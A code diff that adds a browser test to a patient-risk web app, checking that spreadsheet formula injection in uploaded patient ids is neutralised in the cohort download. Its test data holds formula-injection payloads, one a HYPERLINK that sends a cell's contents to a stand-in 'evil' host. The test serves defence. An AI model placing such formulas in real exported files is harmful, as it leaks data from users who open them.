@@ -82,6 +82,44 @@ test("a file with an NHS-number column is refused and nothing of it kept", async
   await session.context.close();
 });
 
+test("patient ids written as formulas come back inert in the cohort download", async () => {
+  // The 10,000-patient file with four ids replaced by formulas a spreadsheet would run,
+  // their patients given every condition so that they are in the cohort.
+  const text = await readFile(PATIENTS, "utf8");
+  const lines = text.trim().split(/\r?\n/);
+  const header = lines[0].split(",");
+  const conditions = header.map((h, i) => (h.startsWith("cms_") ? i : -1)).filter((i) => i >= 0);
+  const formulas = ['"=HYPERLINK(""http://evil/?x=""&A1,""click"")"', "+1+1", "-2+3", "@SUM(A1)"];
+  formulas.forEach((id, k) => {
+    const cells = lines[k + 1].split(",");
+    cells[0] = id;
+    for (const i of conditions) cells[i] = "1";
+    lines[k + 1] = cells.join(",");
+  });
+  const file = join(dir, "formula-ids.csv");
+  await writeFile(file, lines.join("\n") + "\n");
+  const session = await openPage(browser, server.origin);
+  await visit(session, "/risk");
+  await session.page.setInputFiles("#patient-file", file);
+  await session.page.waitForSelector("#cohort-sentence", { timeout: 60_000 });
+  const [download] = await Promise.all([
+    session.page.waitForEvent("download"),
+    session.page.locator("#download-cohort").click(),
+  ]);
+  const cohort = await readFile(await download.path(), "utf8");
+  const ids = cohort.trim().split(/\r?\n/).slice(1).map((l) => l.match(/^("(?:[^"]|"")*"|[^,]*)/)[1]);
+  // (A leading tab or carriage return is trimmed when the id is read; the writer's own
+  // tests cover them.)
+  for (const bare of ["=HYPERLINK", "+1+1", "-2+3", "@SUM(A1)"]) {
+    const id = ids.find((i) => i.replace(/^"|"$/g, "").replaceAll('""', '"').includes(bare));
+    assert.ok(id, `${JSON.stringify(bare)} is not in the cohort`);
+    // Neutralised as OWASP recommends: a leading apostrophe, so the cell is text.
+    assert.match(id.replace(/^"/, ""), /^'/, id);
+  }
+  assert.deepEqual(session.errors, []);
+  await session.context.close();
+});
+
 test("an NHS number written with hyphens after row 100, in the id column, refuses the file: no cohort, nothing to download", async () => {
   const rows = ["patient_id,practice_code,age,sex,cms_dementia"];
   for (let i = 0; i < 150; i++) rows.push(`${i === 120 ? "943-476-5919" : `P${i}`},C82005,${40 + (i % 50)},F,${i % 2}`);
